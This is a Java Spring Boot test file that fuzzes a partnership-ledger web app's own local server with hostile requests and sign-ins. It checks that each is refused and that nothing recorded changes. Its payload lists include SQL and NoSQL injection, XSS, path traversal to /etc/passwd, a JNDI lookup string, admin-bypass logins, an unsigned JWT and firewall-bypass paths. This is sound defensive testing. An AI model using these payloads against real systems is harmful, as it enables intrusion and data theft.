package org.partnershipledger.web;

import static org.assertj.core.api.Assertions.assertThat;

import com.mongodb.client.MongoDatabase;
import java.io.IOException;
import java.net.Socket;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.regex.Matcher;
import org.junit.jupiter.api.Test;
import org.partnershipledger.web.security.Capacity;
import org.partnershipledger.web.security.UserAccounts;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

/**
 * Thousands of malformed and hostile requests at every endpoint: broken JSON, wrong types, unknown
 * properties, injection strings in every field, unknown ids, bodies too large. They come from a user allowed
 * to send every command, so each is judged on what it says, not on who sent it. Every command must be
 * refused with a 4xx problem, no read may fail with a 5xx, and nothing the ledger recorded may change. The
 * sign-in itself is attacked too: garbage credentials are never a 5xx and never let anyone in.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class HostileRequestsTest {

    private static final int REQUESTS = 5_200;
    private static final int SIGN_INS = 400;
    // What the server reads of a request's headers (Tomcat's default); the rest is refused unread.
    private static final int HEADER_LIMIT = 8 * 1024;
    private static final List<String> HOSTILE = List.of(
            "'; DROP TABLE events; --",
            "{\\\"$gt\\\": \\\"\\\"}",
            "$where",
            "<script>alert(1)</script>",
            "../../../etc/passwd",
            "\\u0000",
            "\\ud800",
            "%00%0d%0a",
            "${jndi:ldap://example.invalid/a}",
            "🤝 ‮ﷺ",
            "A".repeat(5_000),
            "-1",
            "9999999999999999999999",
            "null",
            "");

    /** Every command with a body the ledger accepts, so that each mutation breaks exactly what it says. */
    private static final Map<String, String> COMMANDS = new TreeMap<>(Map.ofEntries(
            Map.entry(
                    "/api/partnerships",
                    """
                    {"name": "N", "purpose": "P", "occurredOn": "2003-08-15",
                     "partners": [{"name": "A", "sector": "VOLUNTARY"}, {"name": "B", "sector": "PUBLIC"}]}"""),
            Map.entry(
                    "{p}/representatives",
                    """
                    {"person": "x", "partner": "y", "role": "SECRETARY", "occurredOn": "2003-09-01"}"""),
            Map.entry("{p}/representatives/x/replacement", "{\"incoming\": \"z\", \"occurredOn\": \"2003-09-01\"}"),
            Map.entry("{p}/representatives/x/removal", "{\"reason\": \"r\", \"occurredOn\": \"2003-09-01\"}"),
            Map.entry("{p}/withdrawals", "{\"partner\": \"y\", \"reason\": \"r\", \"occurredOn\": \"2003-09-01\"}"),
            Map.entry(
                    "{p}/agreement/versions/1/signatures",
                    """
                    {"partner": "y", "contentHash": "%s", "signatory": "x", "occurredOn": "2003-09-01"}"""
                            .formatted("a".repeat(64))),
            Map.entry(
                    "{p}/meetings",
                    """
                    {"kind": "STEERING_GROUP", "occurredOn": "2003-09-01", "attendees": [{"person": "x", "represents": "y"}],
                     "proposals": [{"text": "t", "proposedBy": "y", "stances": [{"partner": "y", "stance": "CONSENT", "givenBy": "x"}]}]}"""),
            Map.entry(
                    "{p}/proposals/x/stances",
                    """
                    {"partner": "y", "stance": "OBJECT", "givenBy": "x", "occurredOn": "2003-09-01"}"""),
            Map.entry("{p}/proposals/x/retraction", "{\"reason\": \"r\", \"occurredOn\": \"2003-09-01\"}"),
            Map.entry("{p}/meetings/x/minutes", "{\"minutes\": \"m\", \"occurredOn\": \"2003-09-01\"}"),
            Map.entry(
                    "{p}/admissions",
                    """
                    {"name": "C", "sector": "PUBLIC", "proposalId": "d", "occurredOn": "2003-09-01"}"""),
            Map.entry(
                    "{p}/closing", "{\"reason\": \"DECIDED\", \"proposalId\": \"d\", \"occurredOn\": \"2003-09-01\"}"),
            Map.entry(
                    "{p}/conflicts",
                    """
                    {"raisedBy": "y", "concerning": ["z"], "topic": "t", "description": "d", "category": "OTHER",
                     "occurredOn": "2003-09-01"}"""),
            Map.entry("{p}/conflicts/x/steps", "{\"note\": \"n\", \"occurredOn\": \"2003-09-01\"}"),
            Map.entry("{p}/conflicts/x/escalation", "{\"occurredOn\": \"2003-09-01\"}"),
            Map.entry(
                    "{p}/conflicts/x/resolution",
                    """
                    {"resolution": "r", "consentedBy": ["y"], "occurredOn": "2003-09-01"}"""),
            Map.entry("{p}/conflicts/x/abandonment", "{\"reason\": \"r\", \"occurredOn\": \"2003-09-01\"}"),
            Map.entry("{p}/diary", "{\"author\": \"x\", \"occurredOn\": \"2003-09-01\", \"text\": \"t\"}"),
            Map.entry(
                    "{p}/diary/x/visibility",
                    """
                    {"requestedBy": "x", "visibility": "SHARED", "occurredOn": "2003-09-01"}"""),
            Map.entry(
                    "{p}/phase-observations",
                    "{\"observer\": \"x\", \"phase\": \"CONTROL\", \"occurredOn\": \"2003-09-01\"}"),
            Map.entry(
                    "/api/programmes",
                    """
                    {"name": "N", "facilitator": "x", "startsOn": "2003-01-01", "endsOn": "2003-03-15"}"""),
            Map.entry(
                    "/api/programmes/{u}/pairs",
                    """
                    {"experienceExpert": "e", "strategicLeader": "l", "occurredOn": "2003-01-10"}"""),
            Map.entry(
                    "/api/programmes/{u}/treatment-relationships",
                    """
                    {"person": "e", "closeTo": "l", "occurredOn": "2003-01-10"}""")));

    private static final List<String> READS = List.of(
            "{p}?asOf=",
            "{p}?knownAt=",
            "{p}/events?from=",
            "{p}/events?limit=",
            "{p}/timeline?model=",
            "{p}/decisions?outcome=",
            "{p}/conflicts?asOf=",
            "/api/conflicts/",
            "{u}/timeline?asOf=");

    /** Where an attacker puts a username: injections into a query or a pattern, wildcards, the administrator. */
    private static final List<String> HOSTILE_USERNAMES = List.of(
            "admin' OR '1'='1",
            "admin'--",
            "' OR 1=1; --",
            "{\"$gt\": \"\"}",
            "{\"$ne\": null}",
            "{\"$regex\": \".*\"}",
            "$where",
            "this.passwordHash.match(/.*/)",
            ".*",
            "*",
            "admin",
            " ADMIN ",
            "admin\u0000",
            "person-x",
            "${jndi:ldap://example.invalid/a}",
            "../../../etc/passwd",
            "<script>alert(1)</script>",
            "🤝 ‮ﷺ",
            "A".repeat(5_000),
            "");

    /** Credentials in schemes the ledger does not take, or not credentials at all. */
    private static final List<String> FOREIGN_AUTHORIZATIONS = List.of(
            "Basic",
            "Basic ",
            "Basic !!!",
            "Basic %00%0d%0a",
            "Basic ====",
            "Basic YWRtaW4",
            "Basic Zm9v:YmFy",
            "basic YWRtaW46YWRtaW4=",
            "Basic YWRtaW46YWRtaW4= YWRtaW46YWRtaW4=",
            "Bearer",
            "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.",
            "Digest username=\"admin\", realm=\"Partnership Ledger\"",
            "Negotiate YIIBhgYGKwYBBQUCoIIBejCCAXag",
            "NTLM TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAAGAbEdAAAADw==",
            "' OR 1=1; --",
            "");

    /** What only a signed-in user, or an administrator, may do: {method, path, body}. */
    private static final List<String[]> SIGNED_IN_ONLY = List.of(
            new String[] {"GET", "/api/me", null},
            new String[] {"GET", "/api/partnerships", null},
            new String[] {"POST", "/api/partnerships", COMMANDS.get("/api/partnerships")},
            new String[] {"GET", "/api/admin/users", null},
            new String[] {
                "POST",
                "/api/admin/users",
                """
                {"username": "intruder", "password": "an intruder's password", "capacities": ["ADMINISTRATOR"]}"""
            });

    private final Random random = new Random(20031215);

    @LocalServerPort
    int port;

    @Autowired
    MongoDatabase database;

    @Autowired
    UserAccounts users;

    /**
     * Person x of the bodies below: a facilitator, and the secretary and a signatory of a partner of the
     * partnership attacked, so no command is refused for who sends it before what it says is judged.
     */
    private LedgerHttp insider;

    @DynamicPropertySource
    static void dataDirectory(DynamicPropertyRegistry registry) throws Exception {
        String directory = Files.createTempDirectory("ledger-hostile").toString();
        registry.add("ledger.data-dir", () -> directory);
        registry.add("ledger.mongodb.uri", () -> "");
    }

    @Test
    void noHostileRequestGetsAServerErrorOrChangesWhatIsRecorded() throws Exception {
        // A facilitator is never appointed a representative, so x is appointed first and made a facilitator
        // straight in the user store afterwards, past the rule the API applies.
        TestUsers test = new TestUsers(users, port);
        insider = test.facilitator();
        String partnership = send("POST", "/api/partnerships", COMMANDS.get("/api/partnerships"))
                .headers()
                .firstValue("Location")
                .orElseThrow();
        String partner = insider.eventually(partnership)
                .path("partners")
                .get(0)
                .path("id")
                .asText();
        for (String role : List.of("SECRETARY", "SIGNATORY")) {
            HttpResponse<String> appointed = send(
                    "POST",
                    partnership + "/representatives",
                    """
                    {"person": "x", "partner": "%s", "role": "%s", "occurredOn": "2003-08-15"}"""
                            .formatted(partner, role));
            assertThat(appointed.statusCode()).as(appointed.body()).isEqualTo(201);
        }
        insider = test.person("x");
        users.grant("person-x", Set.of(Capacity.FACILITATOR));
        long recorded = events();
        List<String> failures = new ArrayList<>();
        Map<Integer, Integer> statuses = new TreeMap<>();

        for (int i = 0; i < REQUESTS; i++) {
            String[] request = hostile(partnership);
            HttpResponse<String> response = send(request[0], request[1], request[2]);
            statuses.merge(response.statusCode(), 1, Integer::sum);
            boolean refused = response.statusCode() >= 400 && response.statusCode() < 500;
            boolean harmlessRead = request[0].equals("GET") && response.statusCode() < 500;
            if (!refused && !harmlessRead) {
                failures.add(response.statusCode() + " " + request[0] + " " + request[1] + " " + abbreviate(request[2])
                        + " -> " + abbreviate(response.body()));
            }
        }

        assertThat(failures)
                .as("answers to hostile requests, by status " + statuses)
                .isEmpty();
        assertThat(events()).as("events recorded").isEqualTo(recorded);
    }

    /**
     * Requests refused before the ledger's own code sees them, by Tomcat ({@code %00}, an encoded slash, a
     * malformed target, a path that is not UTF-8) or by Spring Security's firewall ({@code ..;}, {@code ;}, an encoded dot): written on a
     * plain socket, since an HTTP client would refuse or clean up such addresses itself.
     */
    @Test
    void requestsRefusedBeforeTheLedgerSeesThemAreProblemsWithTheLedgersHeaders() throws Exception {
        HttpResponse<String> ours = new LedgerHttp(port).get("/api/partnerships");
        assertThat(ours.statusCode()).isEqualTo(401);

        for (String target : List.of(
                "/api/partnerships/%00",
                "/api/partnerships%2Fsecret",
                "/api/..;/admin/users",
                "/api/partnerships;jsessionid=1",
                "/api/%2e%2e/admin/users",
                "/api/partnerships/<script>",
                "/api/partnerships/%ED%A0%80")) {
            String answer = raw("GET " + target + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
            String head =
                    answer.substring(0, Math.max(0, answer.indexOf("\r\n\r\n"))).toLowerCase(Locale.ROOT);

            assertThat(answer).as(target).startsWith("HTTP/1.1 400 ");
            assertThat(head).as(target).contains("\r\ncontent-type: application/problem+json");
            assertThat(answer).as(target).contains("\"status\":400").doesNotContain("<html");
            for (String header : SECURITY_HEADERS) {
                String value = ours.headers().firstValue(header).orElseThrow();
                assertThat(head)
                        .as(target + ": " + header)
                        .contains("\r\n" + header.toLowerCase(Locale.ROOT) + ": " + value.toLowerCase(Locale.ROOT));
            }
        }
    }

    private static final List<String> SECURITY_HEADERS = List.of(
            "Content-Security-Policy",
            "X-Content-Type-Options",
            "X-Frame-Options",
            "Referrer-Policy",
            "Permissions-Policy",
            "Cache-Control");

    private String raw(String request) throws IOException {
        try (Socket socket = new Socket("localhost", port)) {
            socket.setSoTimeout(10_000);
            socket.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
            socket.getOutputStream().flush();
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    // Failed sign-ins from one address slow down every later sign-in from it, the next test's too.
    @Test
    @DirtiesContext
    void noHostileSignInGetsAServerErrorOrLetsAnyoneIn() throws Exception {
        LedgerHttp anonymous = new LedgerHttp(port);
        long recorded = events();
        int userCount = users.all().size();
        List<String> failures = new ArrayList<>();
        Map<Integer, Integer> statuses = new TreeMap<>();
        int cutOff = 0;

        for (int i = 0; i < SIGN_INS; i++) {
            String authorization = hostileAuthorization();
            String[] attempt = pick(SIGNED_IN_ONLY);
            HttpRequest.Builder request = anonymous.request(attempt[1]);
            if (!authorization.isEmpty()) {
                request.header("Authorization", authorization);
            }
            if ("POST".equals(attempt[0])) {
                request.header("Content-Type", "application/json")
                        .POST(HttpRequest.BodyPublishers.ofString(attempt[2]));
            }
            HttpResponse<String> response;
            try {
                response = anonymous.send(request);
            } catch (IOException closed) {
                // Headers far beyond the limit may be answered by closing the connection while they are sent.
                if (authorization.length() < HEADER_LIMIT - 1_024) {
                    throw closed;
                }
                cutOff++;
                continue;
            }
            statuses.merge(response.statusCode(), 1, Integer::sum);
            if (!List.of(400, 401, 429).contains(response.statusCode())) {
                failures.add(response.statusCode() + " " + attempt[0] + " " + attempt[1] + " with Authorization: "
                        + abbreviate(authorization) + " -> " + abbreviate(response.body()));
            }
        }

        assertThat(failures)
                .as("answers to hostile sign-ins, by status " + statuses + ", cut off while sent: " + cutOff)
                .isEmpty();
        assertThat(events()).as("events recorded").isEqualTo(recorded);
        assertThat(users.all()).as("users").hasSize(userCount);
    }

    /** What an attacker puts where the credentials go. */
    private String hostileAuthorization() {
        String username = pick(HOSTILE_USERNAMES);
        return switch (random.nextInt(6)) {
            case 0 -> pick(FOREIGN_AUTHORIZATIONS);
            case 1 -> basic(username); // no colon between username and password
            case 2 -> basic(username + ":" + pick(HOSTILE));
            case 3 -> basic(username + ":" + "p".repeat(random.nextInt(20_000)));
            case 4 -> "Basic " + "QUFB".repeat(random.nextInt(30_000));
            default -> {
                byte[] noise = new byte[random.nextInt(200)];
                random.nextBytes(noise);
                yield "Basic " + Base64.getEncoder().encodeToString(noise);
            }
        };
    }

    private static String basic(String credentials) {
        return "Basic " + Base64.getEncoder().encodeToString(credentials.getBytes(StandardCharsets.UTF_8));
    }

    /** A request that must be refused: {method, path, body}. */
    private String[] hostile(String partnership) {
        if (random.nextInt(5) == 0) {
            String read = pick(READS);
            String path = read.replace(
                            "{p}",
                            random.nextBoolean()
                                    ? partnership
                                    : "/api/partnerships/" + URLEncoder.encode(pick(HOSTILE), StandardCharsets.UTF_8))
                    .replace("{u}", "/api/partnerships/unknown");
            return new String[] {"GET", path + URLEncoder.encode(pick(HOSTILE), StandardCharsets.UTF_8), null};
        }
        String endpoint = pick(new ArrayList<>(COMMANDS.keySet()));
        String body = COMMANDS.get(endpoint);
        boolean unknownTarget = endpoint.contains("{") && random.nextBoolean();
        String path = endpoint.replace("{p}", unknownTarget ? "/api/partnerships/" + safeId() : partnership)
                .replace("{u}", safeId());
        return new String[] {"POST", path, unknownTarget ? everyFieldHostile(body) : broken(body)};
    }

    /** Any of the ways a body can be wrong on its own; a mutation that happens to change nothing is not sent. */
    private String broken(String body) {
        String broken = mutated(body);
        return broken.equals(body) ? body.substring(0, body.length() / 2) : broken;
    }

    private String mutated(String body) {
        return switch (random.nextInt(6)) {
            case 0 -> body.substring(0, random.nextInt(body.length() - 1)); // truncated
            case 1 ->
                body.replaceFirst(
                        "\\{",
                        Matcher.quoteReplacement("{\"" + pick(List.of("$where", "__proto__", "extra")) + "\": 1, "));
            case 2 ->
                body.replaceAll("\"(\\d{4}-\\d{2}-\\d{2})\"", Matcher.quoteReplacement("\"" + pick(HOSTILE) + "\""));
            case 3 -> body.replaceAll("\"[A-Z_]{4,}\"", Matcher.quoteReplacement("\"" + pick(HOSTILE) + "\""));
            case 4 -> "{\"padding\": \"" + "x".repeat(1_100_000) + "\"}";
            default -> pick(List.of("", "[]", "null", "42", "\"text\"", "{", "<xml/>", "{\"a\":}"));
        };
    }

    /** A well-formed body with hostile text in every field, sent to a partnership that does not exist. */
    private String everyFieldHostile(String body) {
        return body.replaceAll(":\\s*\"[^\"]*\"", Matcher.quoteReplacement(": \"" + pick(HOSTILE) + "\""));
    }

    private String safeId() {
        return "unknown-" + random.nextInt(1_000_000);
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private HttpResponse<String> send(String method, String path, String body) throws Exception {
        HttpRequest.Builder request = insider.request(path);
        if ("POST".equals(method)) {
            request.header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofString(body));
        }
        return insider.send(request);
    }

    private long events() {
        return database.getCollection("events").countDocuments();
    }

    private static String abbreviate(String text) {
        return text == null || text.length() < 300 ? text : text.substring(0, 300) + "…";
    }
}
